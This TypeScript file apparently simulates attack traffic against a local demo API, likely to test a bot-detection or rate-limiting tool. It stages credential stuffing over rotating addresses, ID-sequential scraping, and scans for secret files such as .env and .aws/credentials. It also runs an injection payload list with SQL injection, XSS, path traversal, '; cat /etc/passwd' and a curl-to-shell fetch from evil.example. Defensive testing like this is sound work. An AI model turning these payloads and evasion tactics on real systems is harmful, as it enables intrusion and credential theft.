import { demoPassword } from '../../examples/demo-api/data.ts';
import { SimClient } from './client.ts';
import { rng } from './legit.ts';
import { type ClientProfile, PROFILES } from './profiles.ts';
import { pool, type Recorder, sleep } from './recorder.ts';

/**
 * Attack campaigns, each a group in the report. Addresses come from 127.100.0.0 upward, far from the
 * legitimate 127.0.x.y, and every rotating campaign uses each address for only one to three requests.
 */
export interface CampaignPlan {
  /** Credential-stuffing attempts per wave: the first wave, the re-tooled wave on fresh IPs, the new stack. */
  readonly stuffing: readonly [number, number, number];
  /** Share of stolen credentials that are valid (OWASP's stuffing guide cites 0.1–2 %). */
  readonly validShare: number;
  readonly stuffingConcurrency: number;
  readonly scrapers: number;
  /** Scraper addresses working at once (a rotating pool hands out a few at a time). */
  readonly scraperConcurrency: number;
  readonly scrapeDepth: number;
  readonly scanners: number;
  readonly scanPaths: number;
  readonly injectors: number;
  readonly injections: number;
  readonly flood: number;
  readonly floodConcurrency: number;
}

class AddressPool {
  #n = 0;
  constructor(readonly second: number) {}
  next(): string {
    const n = this.#n++;
    return `127.${this.second + (n >> 16)}.${(n >> 8) & 255}.${1 + ((n & 255) % 254)}`;
  }
}

interface Credential {
  readonly username: string;
  readonly password: string;
  readonly valid: boolean;
}

function credentials(count: number, validShare: number, seed: number): Credential[] {
  const rand = rng(seed);
  return Array.from({ length: count }, () => {
    const id = 1 + Math.floor(rand() * 480);
    if (rand() < validShare) return { username: `user${id}`, password: demoPassword(id), valid: true };
    const known = rand() < 0.7;
    return {
      username: known ? `user${id}` : `j.smith${Math.floor(rand() * 1e6)}`,
      password: `Summer${Math.floor(rand() * 1e4)}!`,
      valid: false,
    };
  });
}

async function stuffingWave(
  base: string,
  rec: Recorder,
  group: string,
  profile: ClientProfile,
  ips: AddressPool,
  creds: readonly Credential[],
  concurrency: number,
  seed: number,
): Promise<void> {
  rec.start(group, false);
  const rand = rng(seed);
  // Chunks of one to three attempts, each chunk from a fresh address (a rotating residential proxy pool).
  const chunks: Credential[][] = [];
  for (let i = 0; i < creds.length; ) {
    const size = 1 + Math.floor(rand() * 3);
    chunks.push(creds.slice(i, i + size));
    i += size;
  }
  await pool(chunks, concurrency, async (chunk) => {
    const client = new SimClient(base, profile, ips.next(), 0);
    for (const c of chunk) {
      const r = await client.call('POST', '/api/login', { username: c.username, password: c.password });
      rec.record(group, client.ip, r, c.valid);
    }
  });
}

export async function credentialStuffing(base: string, rec: Recorder, plan: CampaignPlan): Promise<void> {
  const [first, retooled, newStack] = plan.stuffing;
  const creds = credentials(first + retooled + newStack, plan.validShare, 7);
  const c = plan.stuffingConcurrency;
  await stuffingWave(
    base,
    rec,
    'stuffing: wave 1',
    PROFILES.stuffer,
    new AddressPool(100),
    creds.slice(0, first),
    c,
    1,
  );
  await sleep(3000);
  await stuffingWave(
    base,
    rec,
    'stuffing: fresh IPs, same stack',
    PROFILES.stuffer,
    new AddressPool(120),
    creds.slice(first, first + retooled),
    c,
    2,
  );
  await sleep(3000);
  await stuffingWave(
    base,
    rec,
    'stuffing: new client stack',
    PROFILES.stufferRetooled,
    new AddressPool(130),
    creds.slice(first + retooled),
    c,
    3,
  );
}

export async function scraping(base: string, rec: Recorder, plan: CampaignPlan): Promise<void> {
  const group = 'scraping (distributed)';
  rec.start(group, false);
  const ips = new AddressPool(140);
  // Each scraper walks its own slice of the catalogue, ids in sequence: the BOLA/scraping pattern.
  await pool(
    Array.from({ length: plan.scrapers }, (_, i) => i),
    plan.scraperConcurrency,
    async (i) => {
      const client = new SimClient(base, PROFILES.scraper, ips.next());
      for (let k = 0; k < plan.scrapeDepth; k++) {
        rec.record(
          group,
          client.ip,
          await client.call('GET', `/api/products/${1 + ((i * plan.scrapeDepth + k) % 1000)}`),
        );
        await sleep(60);
      }
      client.close();
    },
  );
}

const SCAN = [
  '/.env',
  '/.git/config',
  '/wp-login.php',
  '/phpmyadmin/',
  '/server-status',
  '/actuator/env',
  '/backup.sql',
  '/config.json',
  '/.aws/credentials',
  '/admin.php',
];

export async function scanning(base: string, rec: Recorder, plan: CampaignPlan): Promise<void> {
  const group = 'scanning';
  rec.start(group, false);
  const ips = new AddressPool(150);
  await pool(
    Array.from({ length: plan.scanners }, (_, i) => i),
    plan.scanners,
    async (i) => {
      const client = new SimClient(base, PROFILES.scanner, ips.next(), 0);
      for (let k = 0; k < plan.scanPaths; k++) {
        // Mostly guessed API paths, with the classic sensitive files mixed in.
        const path =
          k % 4 === 0
            ? SCAN[(k / 4 + i) % SCAN.length]!
            : `/api/${['v1', 'v2', 'internal', 'debug', 'admin'][k % 5]}/${['users', 'config', 'export', 'keys'][k % 4]}${k}`;
        rec.record(group, client.ip, await client.call('GET', path));
        await sleep(20);
      }
    },
  );
}

const PAYLOADS = [
  "' UNION SELECT username, password FROM users--",
  "1' OR '1'='1",
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '; cat /etc/passwd',
  '$(curl http://evil.example/x.sh | sh)',
  '1; DROP TABLE orders--',
  '../../../../etc/passwd',
];

export async function injection(base: string, rec: Recorder, plan: CampaignPlan): Promise<void> {
  const group = 'injection';
  rec.start(group, false);
  const ips = new AddressPool(160);
  await pool(
    Array.from({ length: plan.injectors }, (_, i) => i),
    plan.injectors,
    async () => {
      const client = new SimClient(base, PROFILES.scanner, ips.next(), 0);
      for (let k = 0; k < plan.injections; k++) {
        const p = PAYLOADS[k % PAYLOADS.length]!;
        const r =
          k % 2 === 0
            ? await client.call('GET', `/api/search?q=${encodeURIComponent(p)}`)
            : await client.call('POST', '/api/echo', { comment: p });
        rec.record(group, client.ip, r);
        await sleep(30);
      }
    },
  );
}

export async function flood(base: string, rec: Recorder, plan: CampaignPlan): Promise<void> {
  const group = 'flood (single IP)';
  rec.start(group, false);
  const client = new SimClient(base, PROFILES.flooder, '127.170.0.1', plan.floodConcurrency);
  await pool(
    Array.from({ length: plan.flood }, (_, i) => i),
    plan.floodConcurrency,
    async (i) => {
      rec.record(group, client.ip, await client.call('GET', `/api/products?page=${1 + (i % 3)}`));
    },
  );
  client.close();
}
